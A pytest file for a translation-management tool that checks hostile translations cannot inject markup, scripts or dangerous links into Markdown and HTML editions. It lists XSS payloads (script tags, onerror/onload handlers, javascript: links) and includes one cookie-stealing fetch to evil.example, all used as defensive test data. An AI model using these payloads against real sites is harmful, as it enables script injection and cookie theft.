"""Hostile translations in every place a segment can stand, in every edition format.

A catalog is not trusted: whatever a translation holds must stay inside its segment, as text. For
each hostile string, every segment of a document that has every kind of place (heading,
paragraph, list item, quote, table cell, image alt text, HTML block text, front matter, footnote)
is "translated" with it; then the Markdown edition is parsed by markdown-it-py (same blocks as the
source, no raw HTML or link the source does not have), the HTML edition is parsed as HTML (no
script, handler or dangerous link), and headless Chromium renders the HTML edition of the worst
strings and reports whether any of them ran.
"""

from __future__ import annotations

import shutil
import subprocess
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path

import pytest

from tests.formats.test_markdown_guard import HOSTILE as GUARD_HOSTILE
from transmgr.editions import Edition, Piece, Status
from transmgr.formats import MARKDOWN, segment_text
from transmgr.formats.base import safe_url
from transmgr.formats.markdown.edition import fit_translation
from transmgr.formats.markdown.parser import block_parser

SOURCE = """---
title: The title in front matter
---

# A heading

A paragraph with a [link](https://example.org/a).

- A list item

> A quote

| Header | Other |
|--------|-------|
| A cell | Two   |

![An image's alt text](picture.png "Its title")

<p align="center">Centred <b>text</b> in HTML.</p>

A claim.[^1]

[^1]: The note.
"""

# Strings that run script if they escape: each sets an attribute the browser test looks for.
RUNNING = [
    "<script>document.documentElement.setAttribute('data-pwned','script')</script>",
    "<img src=x onerror=\"document.documentElement.setAttribute('data-pwned','img')\">",
    "</p><svg onload=\"document.documentElement.setAttribute('data-pwned','svg')\">",
    "\" onmouseover=\"x\" data-x=\"",
    "'><iframe src=\"javascript:document.documentElement.setAttribute('data-pwned','iframe')\"></iframe>",
    "<!-- --><script>document.documentElement.setAttribute('data-pwned','comment')</script>",
    "</title><script>document.documentElement.setAttribute('data-pwned','title')</script>",
    "[x](javascript:document.documentElement.setAttribute('data-pwned','link'))",
    "-->\n\n<script>document.documentElement.setAttribute('data-pwned','block')</script>",
    "x\n---\ntitle: <script>alert(1)</script>",
    "| <script>alert(1)</script> |",
    "] (javascript:alert(1)) [",
    "\u202eevil\u202c \u2028 new line",
]
HOSTILE = RUNNING + [h for h in GUARD_HOSTILE if h not in RUNNING]
_DANGEROUS_TAGS = {"script", "iframe", "svg", "object", "embed", "style", "img", "input", "form", "math"}


def _edition(text: str) -> Edition:
    document = segment_text(SOURCE, name="doc")
    return Edition(document, "be", "en", tuple(Piece(text, Status.TRANSLATED) for _ in document.segments()))


def _blocks(markdown: str) -> list[str]:
    # The notes are listed only when referenced, and a translation without "[^1]" drops the reference:
    # that changes what is listed, not the document's blocks.
    kept, depth = [], 0
    for token in block_parser().parse(markdown, {}):
        depth += {"footnote_block_open": 1, "footnote_block_close": -1}.get(token.type, 0)
        if not depth and token.type not in ("inline", "front_matter", "footnote_block_close"):
            kept.append(token.type)
    return kept


def _raw_html(markdown: str) -> set[str]:
    found = set()
    for token in block_parser().parse(markdown, {}):
        if token.type == "html_block":
            found.add(token.content.strip())
        for child in token.children or []:
            if child.type == "html_inline":
                found.add(child.content)
    return found


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attrs += [(name, value or "") for name, value in attrs]


def test_the_source_document_has_every_kind_of_place() -> None:
    kinds = {s.kind for s in segment_text(SOURCE, name="doc").segments()}
    assert {"front-matter", "title", "paragraph", "list-item", "quote", "table-header", "table-cell", "image-alt",
            "image-title", "html", "footnote"} <= kinds


@pytest.mark.parametrize("hostile", HOSTILE)
def test_markdown_edition_keeps_the_structure_and_adds_no_markup(hostile: str) -> None:
    markdown = MARKDOWN.render_source(_edition(hostile))
    assert _blocks(markdown) == _blocks(SOURCE)
    assert _raw_html(markdown) <= {html.strip() for html in _raw_html(SOURCE)} | {
        # the HTML block's text is translated inside the source's own tags, escaped
        f'<p align="center">{h}</p>' for h in _escaped_variants(hostile)
    }
    for token in block_parser().parse(markdown, {}):
        for child in token.children or []:
            href = child.attrGet("href") if child.type == "link_open" else None
            assert href is None or safe_url(str(href)), href


def _escaped_variants(text: str) -> set[str]:
    segment = next(s for s in segment_text(SOURCE, name="doc").segments() if s.kind == "html")
    return {fit_translation(text, segment)}


@pytest.mark.parametrize("hostile", HOSTILE)
def test_html_edition_has_no_script_handler_or_dangerous_link(hostile: str) -> None:
    page = MARKDOWN.render_html(_edition(hostile))
    elements = _Elements()
    elements.feed(page)
    source_elements = _Elements()
    source_elements.feed(MARKDOWN.render_html(_edition_source()))
    extra = set(elements.tags) - set(source_elements.tags)
    assert not extra & _DANGEROUS_TAGS, extra
    assert elements.tags.count("img") == source_elements.tags.count("img")
    assert not [name for name, _ in elements.attrs if name.startswith("on")]
    assert all(safe_url(value) for name, value in elements.attrs if name in ("href", "src"))


def _edition_source() -> Edition:
    document = segment_text(SOURCE, name="doc")
    return Edition(document, "en", "en", tuple(Piece(s.text, Status.SOURCE) for s in document.segments()))


def _chromium() -> str:
    for name in ("chromium", "chromium-browser"):
        found = shutil.which(name)
        if found:
            return found
    pytest.skip("Debian's chromium is not installed (apt-get install chromium; .ci/setup installs it)")


@pytest.mark.slow
def test_nothing_runs_in_a_real_browser(tmp_path: Path) -> None:
    browser = _chromium()
    body = "".join(MARKDOWN.render_html(_edition(hostile)) for hostile in RUNNING)
    page = tmp_path / "page.html"
    page.write_text(f"<!DOCTYPE html><html lang=be><head><meta charset=utf-8><title>t</title></head>"
                    f"<body>{body}</body></html>", encoding="utf-8")
    done = subprocess.run(
        [browser, "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
         "--disable-component-update", "--disable-sync", "--no-first-run", f"--user-data-dir={tmp_path / 'p'}",
         "--virtual-time-budget=2000", "--dump-dom", page.as_uri()],
        capture_output=True, text=True, timeout=120,
    )
    assert done.returncode == 0, done.stderr[-2000:]
    assert "data-pwned" not in done.stdout.split("<body", 1)[0], "a hostile translation ran in the browser"
    assert "&lt;script&gt;" in done.stdout  # shown as text


def test_a_script_inside_a_markdown_paragraph_is_never_offered_nor_taken_from_a_catalog(
        make_project: Callable[..., Path]) -> None:
    from transmgr.catalog import read_catalog, set_translation, write_catalog
    from transmgr.workflows import Project, update
    from transmgr.workflows.build import build

    source = 'Press the button <script>var greeting = "Hello there";</script> to go on.\n'
    root = make_project({"doc.md": source}, languages=["be"])
    project = Project.load(root)
    update(project)
    po = project.po_path("be", "doc")
    catalog = read_catalog(po)
    unit = next(u for u in catalog if u.msgid)
    inline = MARKDOWN.inline(unit.msgid)
    assert [unit.msgid[s.start:s.end] for s in inline.spans] == ['<script>var greeting = "Hello there";</script>']
    assert "Hello there" not in inline.prose_text()  # code: not words to translate
    catalog.put(set_translation(unit, 'Націсніце кнопку <script>fetch("https://evil.example/"+document.cookie)'
                                      "</script>, каб працягнуць."), replacing=unit)
    write_catalog(catalog, po)
    build(project)
    page = (root / "build" / "be" / "doc.html").read_text(encoding="utf-8")
    markdown = (root / "build" / "be" / "doc.md").read_text(encoding="utf-8")
    assert "evil.example" not in page and "evil.example" not in markdown
    assert 'var greeting = "Hello there"' in markdown  # the source's own segment stands instead
